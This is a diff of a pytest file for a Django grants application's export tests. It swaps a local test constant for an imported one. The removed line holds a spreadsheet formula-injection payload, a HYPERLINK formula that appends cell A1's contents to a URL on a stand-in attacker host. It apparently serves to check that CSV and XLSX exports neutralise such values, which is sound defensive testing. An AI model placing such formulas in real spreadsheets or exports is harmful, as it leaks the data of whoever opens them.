@@ -7,13 +7,13 @@ import re
 
 import pytest
 
+from tests.list_exports import SHORT_EVIL as EVIL
 from tests.list_exports import read_csv, read_xlsx
 from vcsgrants.core.models import User
 from vcsgrants.funding.models import Agreement
 from vcsgrants.monitoring.models import Return
 
 pytestmark = pytest.mark.django_db
-EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Guidance")'
 
 
 def test_the_returns_awaiting_review_download_lists_every_item_as_the_page(demo_module, client):
